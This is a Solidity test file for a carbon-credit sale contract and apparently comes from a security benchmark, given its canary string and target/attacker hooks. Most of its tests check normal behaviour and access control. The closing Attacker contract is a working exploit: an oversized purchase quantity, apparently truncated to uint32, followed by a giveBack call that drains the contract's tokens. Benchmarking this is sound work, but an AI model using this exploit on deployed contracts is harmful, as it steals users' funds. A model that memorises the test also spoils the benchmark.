// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./CarbonCredits.sol";

// assay-canary-449dddaf-053c-401f-a04f-13b38b107d8a

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Token is ERC20("Token", "TOK") {
    address private maker = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "maker only");
        _mint(to, amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);
    uint256 private constant START = 1_700_000_000;

    Token public token;
    CarbonCredits private credits;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        token = new Token();
        credits = new CarbonCredits(address(this), token);
        credits.grantRole(credits.CERTIFIER_ROLE(), CAT);
        credits.grantRole(credits.TREASURER_ROLE(), BEN);
        vm.prank(CAT);
        credits.addLot(5_000, 20e18, 90 days);
        token.mint(ANA, 2_000e18);
        vm.startPrank(ANA);
        token.approve(address(credits), 2_000e18);
        credits.purchase(0, 50);
        vm.stopPrank();
        mallory = new Attacker(credits, token);
        token.mint(address(mallory), 20e18);
    }

    function test_Regular() public {
        vm.startPrank(ANA);
        credits.purchase(0, 10);
        require(credits.tonnesOf(0, ANA) == 60 && token.balanceOf(ANA) == 800e18, "purchased");
        credits.giveBack(0, 20);
        require(credits.tonnesOf(0, ANA) == 40 && token.balanceOf(ANA) == 1_200e18, "returned");
        credits.retire(0, 15);
        vm.stopPrank();
        (uint32 left, uint32 retired, , , uint256 proceeds) = credits.lots(0);
        require(left == 4_960 && retired == 15 && proceeds == 800e18, "the lot");
        vm.warp(START + 90 days);
        vm.prank(BEN);
        credits.payOut(0);
        require(token.balanceOf(BEN) == 800e18, "paid out");
        vm.prank(ANA);
        credits.retire(0, 25);
        bytes32 role = credits.CERTIFIER_ROLE();
        credits.revokeRole(role, CAT);
        credits.grantRole(role, ANA);
        vm.prank(ANA);
        credits.renounceRole(role, ANA);
        require(!credits.hasRole(role, ANA) && !credits.hasRole(role, CAT), "roles");
    }

    function denies(bytes32 role) internal {
        vm.expectRevert(abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, ANA, role));
    }

    function test_RefusesStrangers() public {
        (bytes32 certifier, bytes32 treasurer) = (credits.CERTIFIER_ROLE(), credits.TREASURER_ROLE());
        vm.warp(START + 90 days);
        vm.startPrank(ANA);
        denies(certifier);
        credits.addLot(1, 1, 1);
        denies(treasurer);
        credits.payOut(0);
        vm.stopPrank();
    }

    function test_RefusesOpenings() public {
        vm.expectRevert("CarbonCredits: no admin");
        new CarbonCredits(address(0), token);
        vm.expectRevert("CarbonCredits: no token");
        new CarbonCredits(address(this), IERC20(address(0)));
        vm.startPrank(CAT);
        vm.expectRevert("CarbonCredits: empty lot");
        credits.addLot(0, 1, 1 days);
        vm.expectRevert("CarbonCredits: empty lot");
        credits.addLot(1, 0, 1 days);
        vm.expectRevert("CarbonCredits: duration out of bounds");
        credits.addLot(1, 1, 0);
        vm.expectRevert("CarbonCredits: duration out of bounds");
        credits.addLot(1, 1, 365 days + 1);
        vm.stopPrank();
    }

    function test_RefusesQuantities() public {
        vm.startPrank(ANA);
        vm.expectRevert("CarbonCredits: nothing to purchase");
        credits.purchase(0, 0);
        vm.expectRevert("CarbonCredits: not enough left");
        credits.purchase(0, 4_951);
        vm.expectRevert("CarbonCredits: not held");
        credits.giveBack(0, 0);
        vm.expectRevert("CarbonCredits: not held");
        credits.giveBack(0, 51);
        vm.expectRevert("CarbonCredits: not held");
        credits.retire(0, 51);
        vm.stopPrank();
        vm.prank(BEN);
        vm.expectRevert("CarbonCredits: not closed");
        credits.payOut(0);
    }

    function test_RefusesClosed() public {
        vm.warp(START + 90 days);
        vm.startPrank(ANA);
        vm.expectRevert("CarbonCredits: closed");
        credits.purchase(0, 1);
        vm.expectRevert("CarbonCredits: closed");
        credits.giveBack(0, 1);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 920e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(credits);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    CarbonCredits private credits;
    IERC20 private token;

    constructor(CarbonCredits credits_, IERC20 token_) {
        credits = credits_;
        token = token_;
    }

    function run() external {
        token.approve(address(credits), 20e18);
        credits.purchase(0, uint256(1 << 32) + 1);
        credits.giveBack(0, uint32(token.balanceOf(address(credits)) / 20e18));
    }
}
